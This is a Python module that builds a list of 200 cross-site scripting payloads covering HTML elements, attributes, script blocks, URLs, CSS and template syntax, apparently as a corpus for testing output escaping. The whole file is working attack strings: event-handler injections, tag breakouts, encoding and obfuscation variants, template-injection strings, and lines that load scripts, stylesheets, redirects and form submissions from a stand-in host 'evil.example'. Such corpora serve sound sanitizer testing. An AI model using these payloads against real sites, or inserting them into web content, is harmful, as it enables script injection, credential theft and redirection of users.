"""200 texts that run a script where a page forgets to escape them: in elements, attributes, scripts, addresses, CSS."""

from __future__ import annotations

from itertools import chain, cycle, islice, product

_HANDLERS = (
    ("img src=x", "onerror"),
    ("svg", "onload"),
    ("body", "onload"),
    ("input autofocus", "onfocus"),
    ("video src=x", "onerror"),
    ("details open", "ontoggle"),
    ("iframe", "onload"),
    ("marquee", "onstart"),
    ("style", "onload"),
    ("a href=x id=x tabindex=1 autofocus", "onfocus"),
)
_OPENINGS = (
    "<",
    '"><',
    "'><",
    "</td><",
    "</title><",
    "</textarea><",
    "</script><",
    "-->< ",
    "]]><",
    "</style><",
    "%3E<",
    "\u2028<",
)
_WHOLE = (
    "<script>RUN</script>",
    "</script><script>RUN</script>",
    "<ScRiPt>RUN</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<!--<script>RUN</script>-->",
    "javascript:RUN",
    "JaVaScRiPt:RUN",
    "java\tscript:RUN",
    "data:text/html,<script>RUN</script>",
    "'-RUN-'",
    '"-RUN-"',
    "`-RUN-`",
    "${RUN}",
    "\\'-RUN//",
    "\\u003cscript\\u003eRUN\\u003c/script\\u003e",
    "&lt;script&gt;RUN&lt;/script&gt;",
    "&#60;script&#62;RUN&#60;/script&#62;",
    "{{ 7*7 }}{{ constructor.constructor('RUN')() }}",
    "{% include 'error.html' %}",
    "{# comment #}<script>RUN</script>",
    '" onmouseover="RUN',
    "' onmouseover='RUN",
    '" autofocus onfocus="RUN" x="',
    '" style="background:url(//evil.example/x)" x="',
    '" hx-get="//evil.example/" hx-trigger="load" x="',
    "' hx-on:load='RUN' x='",
    '"><div hx-get="/api/top" hx-trigger="load" hx-on::load="RUN">',
    '"><base href="//evil.example/">',
    '"><link rel=stylesheet href=//evil.example/x.css>',
    '"><meta http-equiv=refresh content="0;url=//evil.example/">',
    '"><form action=//evil.example/><button autofocus>',
    '"><object data="javascript:RUN">',
    '"><embed src="javascript:RUN">',
    "<svg><script>RUN</script></svg>",
    "<svg><a xlink:href='javascript:RUN'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=RUN>",
    "<template><img src=x onerror=RUN></template>",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'>",
    "]}}</script><script>RUN</script>",
    '"}}</script><script>RUN</script>',
)


def payloads(number: int = 200) -> list[str]:
    """Different texts; each would call alert with its own number."""
    handlers = (
        f"{opening}{tag} {handler}=RUN{end}"
        for (opening, (tag, handler)), end in zip(
            product(_OPENINGS, _HANDLERS), cycle((">", "//", " x=", ">")), strict=False
        )
    )
    encoded = (
        each.replace("<", "\uff1c") + text
        for each, text in product(_WHOLE[:10], ("\x00", "\u202e", "\x1b[31m", "\\x3c"))
    )
    chosen = list(islice(chain(_WHOLE, handlers, encoded), number))
    assert len(set(chosen)) == number
    return [each.replace("RUN", f"alert({at})") for at, each in enumerate(chosen)]
